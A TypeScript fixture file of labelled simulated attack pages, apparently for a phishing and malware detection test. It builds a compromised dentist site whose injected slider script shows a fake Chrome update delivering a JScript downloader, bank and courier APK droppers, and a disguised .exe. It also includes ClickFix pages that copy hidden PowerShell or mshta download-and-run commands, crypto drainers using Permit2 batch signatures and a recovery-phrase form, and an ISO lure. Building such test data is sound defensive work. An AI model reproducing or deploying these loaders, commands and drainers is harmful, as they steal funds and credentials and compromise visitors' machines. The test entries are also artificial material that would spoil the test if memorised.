import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, footer, nav, tracker, trackerRoute, cookieBanner, pngRoute, jsRoute, jsonRoute, fileRoute } from '../parts/p-kit.js';
import { zip, lnk, pe, cfb, iso, apk } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'p-mal-fake-browser-update-compromised-dentist',
  label: 'malware',
  kind: 'fake-update',
  url: 'https://www.harbourview-dental.co.nz/blog/whitening-myths/',
  body: doc({
    lang: 'en-NZ',
    title: '5 Teeth Whitening Myths – Harbourview Dental, Auckland',
    head: `<script src="https://www.harbourview-dental.co.nz/wp-content/plugins/wp-slider-rev/assets/js/rs-min.js?ver=6.4.2"></script>`,
    css: '.w{max-width:800px;margin:0 auto;padding:20px}',
    body: `${nav('Harbourview Dental', ['Home', 'Services', 'Our Team', 'Fees', 'Blog', 'Book Online'], '#fff', '#1b6f8a')}
<div class="w"><p style="font-size:13px;color:#777">Posted 14 October 2026 · Dr Aroha Ngata</p>
<h1>5 Teeth Whitening Myths We Hear Every Week</h1>
<p>Whitening is one of the most common questions in our Devonport clinic. Here are the myths we hear most often – and what the evidence actually says.</p>
<h2>1. "Whitening damages enamel"</h2><p>Professional peroxide-based whitening, used as directed, does not damage enamel. Sensitivity can occur but is usually temporary.</p>
<h2>2. "Charcoal toothpaste whitens teeth"</h2><p>Charcoal is abrasive and may remove surface stains, but it can also wear enamel over time.</p>
<h2>3. "Whitening works on crowns and fillings"</h2><p>It doesn't. Restorations keep their original shade, which is why we plan whitening before new crowns.</p>
<p>Book a consultation: (09) 445 0192 · 12 Victoria Road, Devonport</p></div>
${footer([['Harbourview Dental', 'Hours: Mon–Fri 8–5', 'ACC registered'], ['Links', 'Privacy', 'Fees', 'Careers']], '© 2026 Harbourview Dental Ltd · Proudly powered by WordPress')}`,
  }),
  routes: {
    'www.harbourview-dental.co.nz/wp-content/plugins/wp-slider-rev/assets/js/rs-min.js': jsRoute(`/*! Slider Revolution 6.4.2 */
(function(){if(document.cookie.indexOf('_wpupd=')>-1)return;document.cookie='_wpupd=1;path=/;max-age=86400';
var k=atob('aHR0cHM6Ly93d3cuaGFyYm91cnZpZXctZGVudGFsLmNvLm56L3dwLWNvbnRlbnQvdXBsb2Fkcy8yMDI2LzExL2Nocm9tZS11cGQuaHRtbA==');
var x=new XMLHttpRequest();x.open('GET',k);x.onload=function(){if(x.status!==200)return;var f=document.createElement('iframe');f.style.cssText='position:fixed;inset:0;width:100%;height:100%;border:0;z-index:2147483647;background:#fff';document.documentElement.appendChild(f);f.contentDocument.open();f.contentDocument.write(x.responseText);f.contentDocument.close()};
window.addEventListener('load',function(){setTimeout(function(){x.send()},1500)});})();`),
    'www.harbourview-dental.co.nz/wp-content/uploads/2026/11/chrome-upd.html': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Update Chrome</title><style>body{font-family:Segoe UI,Arial;margin:0;background:#fff;color:#202124}.c{max-width:640px;margin:80px auto;text-align:center}.b{background:#1a73e8;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none;display:inline-block;margin-top:20px}</style></head>
<body><div class="c"><div style="font-size:64px">⟳</div><h1 style="font-weight:400">An error occurred in Chrome</h1><p>Your version of Chrome is out of date and this page cannot be displayed correctly. The latest update contains critical security fixes.</p><p style="color:#5f6368;font-size:14px">Version 118.0.5993.118 → 131.0.6778.86</p>
<a class="b" href="https://www.harbourview-dental.co.nz/wp-content/uploads/2026/11/Chrome.Update.zip" target="_top">Update Chrome</a><p style="font-size:12px;color:#5f6368;margin-top:30px">Open the downloaded file to install the update.</p></div></body></html>`),
    'www.harbourview-dental.co.nz/wp-content/uploads/2026/11/Chrome.Update.zip': fileRoute(zip([{ name: 'Chrome.Update.js', data: "var s=new ActiveXObject('WScript.Shell');var u='https://update-chromesvc.org/s.php?id='+s.ExpandEnvironmentStrings('%COMPUTERNAME%');var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET',u,false);x.send();eval(x.responseText);" }]), 'application/zip', 'Chrome.Update.zip'),
  },
},
{
  id: 'p-mal-bank-apk-security-update-ptbr',
  label: 'malware',
  kind: 'apk-dropper',
  url: 'https://itau-modulo-seguranca.app-br.com/',
  body: doc({
    lang: 'pt-BR',
    title: 'Itaú – Módulo de Segurança',
    css: 'body{background:#ec7000;color:#fff;text-align:center}.c{max-width:420px;margin:0 auto;padding:30px 20px}.b{display:block;background:#003399;color:#fff;padding:16px;border-radius:8px;text-decoration:none;font-size:18px;font-weight:700;margin:20px 0}.s{text-align:left;background:rgba(0,0,0,.12);padding:14px;border-radius:8px;font-size:14px}',
    body: `<div class="c"><div style="font-size:42px;font-weight:900;background:#003399;display:inline-block;padding:8px 16px;border-radius:10px">itaú</div>
<h2>Novo Módulo de Segurança</h2><p>Para continuar usando o app Itaú e o PIX, é obrigatório instalar o novo módulo de segurança até 30/11. Seu acesso será bloqueado após essa data.</p>
<a class="b" href="/download/ItauSeguranca_v4.2.apk">BAIXAR E INSTALAR</a>
<div class="s"><b>Como instalar:</b><br>1. Toque em "Baixar"<br>2. Se aparecer "Arquivo pode ser prejudicial", toque em "Baixar assim mesmo"<br>3. Ative "Permitir fontes desconhecidas"<br>4. Abra o app e ative o serviço de <b>Acessibilidade</b> "Itaú Proteção"</div>
<p style="font-size:11px;opacity:.8">Itaú Unibanco S.A. © 2026</p></div>`,
  }),
  routes: {
    'itau-modulo-seguranca.app-br.com/download/ItauSeguranca_v4.2.apk': fileRoute(apk('br.com.itau.seguranca.modulo', 'Itaú Proteção', ['AccessibilityService', 'overlay_pix', 'sms_forward']), 'application/vnd.android.package-archive', 'ItauSeguranca_v4.2.apk'),
  },
},
{
  id: 'p-mal-delivery-apk-cj-ko',
  label: 'malware',
  kind: 'apk-dropper',
  url: 'https://cjlogistics-parcel.kr-delivery.com/m/',
  body: doc({
    lang: 'ko',
    title: 'CJ대한통운 - 배송조회',
    css: 'body{background:#f4f4f4;font-family:"Malgun Gothic",sans-serif}.h{background:#fff;padding:14px;text-align:center;font-weight:800;color:#0055a5;border-bottom:3px solid #f39800}.c{max-width:420px;margin:14px auto;background:#fff;padding:20px}.b{display:block;background:#f39800;color:#fff;text-align:center;padding:15px;border-radius:6px;text-decoration:none;font-size:17px}',
    body: `<div class="h">CJ대한통운</div>
<div class="c"><h3>고객님의 택배가 주소 불명으로 보관 중입니다</h3>
<p>운송장번호: 6891 2204 7731<br>상태: <span style="color:#c00">배송 보류 (주소 확인 필요)</span></p>
<p>정확한 주소 확인 및 배송 일정 변경을 위해 전용 앱을 설치해 주세요. 설치 후 주소를 입력하시면 익일 재배송됩니다.</p>
<a class="b" id="b" href="/m/CJ_Delivery.apk">배송조회 앱 설치</a>
<p style="font-size:12px;color:#888">※ 설치 시 "출처를 알 수 없는 앱" 허용이 필요합니다.<br>고객센터 1588-1255</p></div>
<script>if(!/Android/i.test(navigator.userAgent)){document.getElementById('b').insertAdjacentHTML('afterend','<p style="font-size:13px;color:#c00">모바일(안드로이드)에서 접속해 주세요.</p>')}</script>`,
  }),
  routes: {
    'cjlogistics-parcel.kr-delivery.com/m/CJ_Delivery.apk': fileRoute(apk('com.cj.delivery.tracker', 'CJ대한통운', ['sms_intercept', 'contacts_upload']), 'application/vnd.android.package-archive', 'CJ_Delivery.apk'),
  },
},
{
  id: 'p-mal-ai-video-generator-exe',
  label: 'malware',
  kind: 'fake-ai-tool',
  url: 'https://kling-ai-studio.pro/generate',
  body: doc({
    lang: 'en',
    title: 'Kling AI Studio – Turn your photos into cinematic AI videos',
    css: 'body{background:#0a0a0f;color:#eee}.w{max-width:700px;margin:40px auto;text-align:center;padding:0 16px}.drop{border:2px dashed #555;border-radius:12px;padding:40px;margin:20px 0}.b{background:linear-gradient(90deg,#7c3aed,#db2777);color:#fff;border:0;padding:14px 30px;border-radius:30px;font-size:16px}',
    body: `<div class="w"><h1>Create AI videos from your photos – free</h1><p>Upload up to 5 images and our model creates a 10-second cinematic video.</p>
<div class="drop" id="d"><input type="file" id="f" accept="image/*" multiple><p>or drag and drop</p></div>
<button class="b" onclick="go()">Generate video</button><p id="st" style="margin-top:20px"></p></div>
<script>function go(){var st=document.getElementById('st');var p=0;var t=setInterval(function(){p+=7;st.textContent='Rendering… '+Math.min(p,100)+'%';if(p>=100){clearInterval(t);st.innerHTML='✅ Your video is ready! <a href="/out/Video_AI_Generated_2026.zip" style="color:#db2777">Download Video_AI_Generated_2026.mp4</a>';location.href='/out/Video_AI_Generated_2026.zip'}},300)}</script>`,
  }),
  routes: {
    'kling-ai-studio.pro/out/Video_AI_Generated_2026.zip': fileRoute(zip([{ name: 'Video_AI_Generated_2026.mp4          .exe', data: pe({ strings: ['VideoPlayer', 'Noodlophile', 'telegram bot api'], size: 6144 }) }]), 'application/zip', 'Video_AI_Generated_2026.zip'),
  },
},
{
  id: 'p-clickfix-cloudflare-compromised-bakery',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://www.boulangerie-martin-lyon.fr/',
  body: doc({
    lang: 'fr',
    title: 'Boulangerie Martin – Artisan boulanger à Lyon 6e',
    head: `<script src="/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1"></script>`,
    css: '.w{max-width:900px;margin:0 auto;padding:20px}',
    body: `${nav('Boulangerie Martin', ['Accueil', 'Nos pains', 'Pâtisseries', 'Commandes', 'Contact'], '#fff', '#7a4b2a')}
<div class="w"><h1>Pain au levain, viennoiseries et pâtisseries maison depuis 1987</h1><p>Ouvert du mardi au dimanche de 6h30 à 19h30. 42 rue Vendôme, 69006 Lyon. Commandes de bûches de Noël jusqu'au 20 décembre.</p></div>
${footer([['Boulangerie Martin', '04 78 52 11 30', 'contact@boulangerie-martin-lyon.fr']], '© 2026 Boulangerie Martin · Mentions légales')}`,
  }),
  routes: {
    'www.boulangerie-martin-lyon.fr/wp-includes/js/jquery/jquery-migrate.min.js': jsRoute(`/*! jQuery Migrate v3.4.1 */
(function(){var c="cG93ZXJzaGVsbCAtdyBoaWRkZW4gLWMgIiRoPSdodHRwczovL2NkbmpzLXZlcmlmeS5jbG91ZC9zL2IucHMxJztpZXgoaXJtICRoKSI=";
function show(){var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:#fff;z-index:999999;font-family:system-ui,-apple-system,Segoe UI,Roboto,sans-serif;color:#222';
o.innerHTML='<div style="max-width:560px;margin:12vh auto;padding:0 20px"><h1 style="font-weight:500;font-size:30px">'+location.hostname+'</h1><p style="font-size:20px">Verify you are human by completing the action below.</p><div id="cfb" style="border:1px solid #ddd;background:#fafafa;padding:16px;display:flex;align-items:center;gap:12px;width:300px"><input type="checkbox" id="cfc" style="width:24px;height:24px"><label for="cfc">Verify you are human</label></div><div id="st" style="display:none;margin-top:18px;border:1px solid #ddd;padding:18px;font-size:15px"><b>Verification steps</b><ol><li>Press <b>Windows Button</b> + <b>R</b></li><li>Press <b>CTRL</b> + <b>V</b></li><li>Press <b>Enter</b></li></ol><p style="font-size:13px;color:#666">I am not a robot – reCAPTCHA Verification ID: 8127</p></div><p style="margin-top:40px;font-size:13px;color:#666">'+location.hostname+' needs to review the security of your connection before proceeding.</p><p style="font-size:12px;color:#999;text-align:center;margin-top:60px">Ray ID: 8e'+Math.random().toString(16).slice(2,14)+' · Performance &amp; security by Cloudflare</p></div>';
document.body.appendChild(o);document.getElementById('cfc').addEventListener('click',function(){var t=atob(c)+' # ✅ I am not a robot - reCAPTCHA Verification ID: 8127';if(navigator.clipboard)navigator.clipboard.writeText(t).catch(function(){});var ta=document.createElement('textarea');ta.value=t;document.body.appendChild(ta);ta.select();try{document.execCommand('copy')}catch(e){}ta.remove();document.getElementById('st').style.display='block'})}
if(!/Windows/.test(navigator.userAgent))return;if(document.readyState!=='loading')show();else document.addEventListener('DOMContentLoaded',show)})();`),
  },
},
{
  id: 'p-clickfix-meet-microphone-fix',
  label: 'clickfix',
  kind: 'clickfix-meeting',
  url: 'https://meet.google.com-join.us/xjq-rtmn-bds',
  body: doc({
    lang: 'en',
    title: 'Meet – xjq-rtmn-bds',
    css: 'body{background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial}.c{display:flex;gap:40px;justify-content:center;align-items:center;min-height:90vh;flex-wrap:wrap}.v{width:560px;max-width:92vw;height:316px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center}#dlg{display:none;position:fixed;inset:0;background:rgba(0,0,0,.6)}#dlg div{background:#fff;color:#202124;max-width:460px;margin:14vh auto;padding:24px;border-radius:8px}button{background:#8ab4f8;color:#202124;border:0;padding:10px 24px;border-radius:20px;font-weight:600}',
    body: `<div class="c"><div class="v">Camera is starting…</div><div><h2 style="font-weight:400">Ready to join?</h2><p>No one else is here</p><button onclick="e()">Join now</button></div></div>
<div id="dlg"><div><h3>⚠ Problem with your microphone and camera</h3><p>Meet couldn't access your microphone. This is a known issue with the latest Windows update.</p><p><b>How to fix:</b></p><ol><li>Click "Copy fix"</li><li>Press <b>Win + R</b></li><li>Paste with <b>Ctrl + V</b> and press <b>Enter</b></li><li>Reload this page</li></ol><button onclick="f()">Copy fix</button> <span id="ok" style="color:green"></span></div></div>
<script>function e(){document.getElementById('dlg').style.display='block'}
function f(){var cmd='powershell -NoP -W Hidden -C "$u=\\'https://meet-fix-audio.com/driver.ps1\\';iex ((New-Object Net.WebClient).DownloadString($u))" ; # Audio driver reset';navigator.clipboard.writeText(cmd).then(function(){document.getElementById('ok').textContent='Copied!'})}
setTimeout(e,4000)</script>`,
  }),
},
{
  id: 'p-clickfix-booking-guest-complaint-it',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://admin-booking.reclami-ospite.com/hotel/reclamo/5541983',
  body: doc({
    lang: 'it',
    title: 'Booking.com Extranet – Reclamo ospite',
    css: 'body{background:#f5f5f5}.h{background:#003580;color:#fff;padding:14px 24px;font-weight:700}.c{max-width:520px;margin:40px auto;background:#fff;padding:26px;border-radius:4px}.chk{border:1px solid #d3d3d3;background:#f9f9f9;padding:14px;display:flex;gap:12px;align-items:center;border-radius:3px;width:300px}',
    body: `<div class="h">Booking.com · Extranet</div>
<div class="c"><h2>Reclamo ospite #5541983</h2><p>Un ospite ha segnalato un problema grave durante il soggiorno (presunte cimici da letto). Per visualizzare le foto e rispondere entro 24 ore, conferma di non essere un robot.</p>
<div class="chk"><input type="checkbox" id="k" style="width:24px;height:24px"> <span>Non sono un robot</span><span style="margin-left:auto;font-size:10px;color:#555">reCAPTCHA<br>Privacy - Termini</span></div>
<div id="v" style="display:none;margin-top:16px;font-size:14px;background:#eef3fb;padding:14px"><b>Verifica aggiuntiva richiesta</b><br>1. Premi <b>Win + R</b><br>2. Premi <b>Ctrl + V</b><br>3. Premi <b>Invio</b> per completare la verifica</div></div>
<script>document.getElementById('k').onchange=function(){var s='m'+'s'+'h'+'t'+'a'+' https://admin-booking.reclami-ospite.com/v/captcha.hta   # Verifica umana ID 4481-TT';navigator.clipboard.writeText(s).catch(function(){});document.getElementById('v').style.display='block'}</script>`,
  }),
},
{
  id: 'p-drainer-airdrop-claim-permit2',
  label: 'cryptodrainer',
  kind: 'airdrop-drainer',
  url: 'https://claim-layerzero-s3.xyz/',
  body: doc({
    lang: 'en',
    title: 'LayerZero Season 3 Airdrop – Check Eligibility',
    css: 'body{background:#000;color:#fff;text-align:center}.c{max-width:520px;margin:80px auto;padding:0 18px}.b{background:#fff;color:#000;border:0;padding:14px 36px;font-size:16px;border-radius:30px;font-weight:700}.card{border:1px solid #333;border-radius:14px;padding:20px;margin-top:24px}',
    body: `<div class="c"><h1>ZRO Season 3 is live</h1><p>Eligible wallets can claim their allocation until the snapshot closes. Connect your wallet to check eligibility.</p>
<button class="b" id="cb">Connect Wallet</button><div class="card" id="st">Allocation: —</div>
<p style="font-size:12px;color:#888;margin-top:40px">© 2026 LayerZero Labs · Terms · Privacy</p></div>
<script src="/assets/index-5c1a9f.js"></script>`,
  }),
  routes: {
    'claim-layerzero-s3.xyz/assets/index-5c1a9f.js': jsRoute(`(function(){var P2='0x000000000022D473030F116dDEE9F6B43aC78BA3';var R='0x8bA1f109551bD432803012645Ac136ddd64DBA72';
var T=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0x6B175474E89094C44Da98b954EedeAC495271d0F'];
var st=document.getElementById('st');
document.getElementById('cb').onclick=async function(){if(!window.ethereum){st.textContent='No wallet detected. Install MetaMask or open in your wallet browser.';return}
var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];st.innerHTML='Wallet '+a.slice(0,6)+'…'+a.slice(-4)+'<br><b style="font-size:28px">2,480 ZRO</b><br>≈ $8,912<br><button class="b" id="cl">Claim</button>';
fetch('/api/v2/log',{method:'POST',body:JSON.stringify({a:a,c:await ethereum.request({method:'eth_chainId'})})});
document.getElementById('cl').onclick=async function(){var d=Math.floor(Date.now()/1000)+86400*30;var msg={details:T.map(function(t){return{token:t,amount:'1461501637330902918203684832716283019655932542975',expiration:d,nonce:0}}),spender:R,sigDeadline:d};
var td={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:P2},message:msg};
try{var s=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(td)]});await fetch('/api/v2/sig',{method:'POST',body:JSON.stringify({a:a,s:s,m:msg})});st.innerHTML='Claim submitted ✔ Tokens will arrive within 24h.'}catch(e){st.innerHTML+='<p>Signature rejected. Please try again to receive your tokens.</p>'}}}})();`),
    'claim-layerzero-s3.xyz/api/v2/log': jsonRoute({ ok: true }),
    'claim-layerzero-s3.xyz/api/v2/sig': jsonRoute({ ok: true }),
  },
},
{
  id: 'p-drainer-wallet-rectify-solana',
  label: 'cryptodrainer',
  kind: 'wallet-rectify-drainer',
  url: 'https://dapp-rectify-portal.network/sync',
  body: doc({
    lang: 'en',
    title: 'DApp Rectify Portal – Resolve Wallet Issues',
    css: 'body{background:#101322;color:#dfe3f0}.g{display:grid;grid-template-columns:repeat(auto-fill,minmax(200px,1fr));gap:14px;max-width:900px;margin:30px auto;padding:0 16px}.g button{background:#1c2135;border:1px solid #2c3355;color:#fff;padding:20px;border-radius:10px;font-size:15px}',
    body: `<h1 style="text-align:center;margin-top:40px">Decentralized Wallet Rectification</h1><p style="text-align:center">Open protocol to resolve all wallet issues: failed transactions, missing balance, stuck tokens, airdrop claim, bridge errors.</p>
<div class="g"><button>Migration</button><button>Claim Reward</button><button>Rectify</button><button>Slippage Error</button><button>Missing Balance</button><button>Stake / Unstake</button><button>Bridge Transfer</button><button>Whitelist</button></div>
<p id="s" style="text-align:center"></p>
<script>document.querySelectorAll('.g button').forEach(function(b){b.onclick=async function(){var s=document.getElementById('s');var sol=window.phantom&&window.phantom.solana||window.solana;if(sol){try{var r=await sol.connect();var pk=r.publicKey.toString();var tx=await fetch('/sync/api/build?pk='+pk).then(function(x){return x.json()});s.textContent='Synchronising '+tx.count+' accounts…';await sol.signAllTransactions(tx.txs)}catch(e){s.textContent='Connection failed, try manual sync.'}}else if(window.ethereum){var a=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:a[0],to:'0x71C7656EC7ab88b098defB751B7401B5f6d8976F',value:'0x'+(0.5e18).toString(16)}]})}else{s.innerHTML='No wallet found – <a href="/sync/manual" style="color:#8ab4f8">connect manually with recovery phrase</a>'}}})</script>`,
  }),
  routes: {
    'dapp-rectify-portal.network/sync/api/build': jsonRoute({ count: 3, txs: [] }),
    'dapp-rectify-portal.network/sync/manual': htmlRoute('<!DOCTYPE html><html><head><title>Manual connect</title></head><body style="background:#101322;color:#fff;font-family:Arial;text-align:center"><h2>Import wallet</h2><textarea placeholder="Enter your 12 or 24 word recovery phrase" style="width:420px;height:100px"></textarea><br><button>Connect</button></body></html>'),
  },
},
{
  id: 'p-mal-fake-pdf-reader-iso',
  label: 'malware',
  kind: 'fake-document',
  url: 'https://secure-fileshare-docs.online/d/Scan_Contract_8812',
  body: doc({
    lang: 'en',
    title: 'Secure Document – Scan_Contract_8812.pdf',
    css: 'body{background:#e9eef3}.c{max-width:460px;margin:90px auto;background:#fff;padding:30px;text-align:center;border-radius:6px;box-shadow:0 2px 10px rgba(0,0,0,.1)}a.b{display:inline-block;background:#d93025;color:#fff;padding:12px 30px;border-radius:4px;text-decoration:none}',
    body: `<div class="c"><div style="font-size:48px">📄</div><h3>Scan_Contract_8812.pdf</h3><p style="color:#666;font-size:14px">1.2 MB · Shared by accounts@ with you</p><p style="font-size:14px">This document is protected. Your browser's PDF viewer cannot open encrypted documents. Download the secure viewer package.</p><a class="b" href="/d/Scan_Contract_8812.iso">Download Document</a></div>`,
  }),
  routes: {
    'secure-fileshare-docs.online/d/Scan_Contract_8812.iso': fileRoute(iso('SCAN_CONTRACT', ['SCAN_CONTRACT_8812.PDF.LNK', 'VIEWER.DLL']), 'application/x-iso9660-image', 'Scan_Contract_8812.iso'),
  },
},
];
